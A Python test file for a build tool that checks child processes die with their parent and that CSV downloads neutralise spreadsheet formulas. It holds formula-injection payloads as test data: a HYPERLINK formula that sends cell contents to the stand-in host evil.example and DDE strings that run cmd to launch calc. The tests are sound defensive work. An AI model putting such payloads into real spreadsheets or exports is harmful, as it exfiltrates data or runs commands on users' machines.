"""Hostile cases for the build and its outputs: each has an expected outcome and a time bound.

Cases that run a full site build are marked slow.
"""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import sqlite_utils

from qingdan.build import build
from qingdan.csv_export import inert

ROOT = Path(__file__).resolve().parents[1]


def alive(pid: int) -> bool:
    """Whether a process runs (a zombie, killed but not yet reaped by init, does not count)."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state not in ("Z", "X")


def wait_until(condition, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return condition()


# --- child processes -------------------------------------------------------------------

PARENT = """
import sys, time
from qingdan import children
child = children.popen([sys.executable, "-c", "import time; time.sleep(120)"])
print(child.pid, flush=True)
time.sleep(120)
"""


def test_a_child_dies_when_its_parent_is_killed():
    """Expected: SIGKILL to a process that started a child through qingdan.children kills the child
    within 5 s (no orphaned MkDocs or dot keeps running)."""
    parent = subprocess.Popen([sys.executable, "-c", PARENT], stdout=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        child = int(parent.stdout.readline())
        assert alive(child)
        parent.send_signal(signal.SIGKILL)
        parent.wait(timeout=5)
        assert wait_until(lambda: not alive(child), 5), "the child outlived its parent"
    finally:
        parent.kill()
        parent.wait()
        if "child" in locals() and alive(child):
            os.kill(child, signal.SIGKILL)


# --- formulas in downloads -------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A3,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


def test_formula_names_are_inert_in_the_csv_downloads_and_raw_in_the_database(mini, tmp_path):
    """Expected: every CSV cell starting with = + - @ gets a leading ' (OWASP); the database keeps
    the raw text; within 30 s."""
    from .conftest import edit

    edit(mini, "name: 张三", f"name: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'")
    edit(mini, "name: 李 四", f'name: "{FORMULAS[1]}"')
    edit(mini, "name: 基金监管股", f"name: '{FORMULAS[2].replace(chr(39), chr(39) * 2)}'")
    edit(mini, "name: 待遇股", f'name: "{FORMULAS[3]}"')
    started = time.monotonic()
    result = build(mini, tmp_path / "dist", site=False, version="t")
    assert time.monotonic() - started < 30
    cells = {
        cell
        for path in (result.dist / "csv").glob("*.csv")
        for row in csv.reader(path.open(encoding="utf-8-sig"))
        for cell in row
    }
    for formula in FORMULAS:
        assert "'" + formula in cells
        assert formula not in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    db = sqlite_utils.Database(result.dist / "qingdan.db")
    names = {row["name"] for row in db["persons"].rows} | {row["name"] for row in db["units"].rows}
    assert set(FORMULAS) <= names


def test_text_that_only_looks_like_a_formula_is_kept_as_it_is():
    """Expected: numbers stay numbers and text not starting with a formula character is unchanged."""
    assert [inert(v) for v in (-2, 3.5, None, "a=b", "电话 +86", "'=x")] == [-2, 3.5, None, "a=b", "电话 +86", "'=x"]
    assert inert("\t=1") == "'\t=1" and inert("\r=1") == "'\r=1"
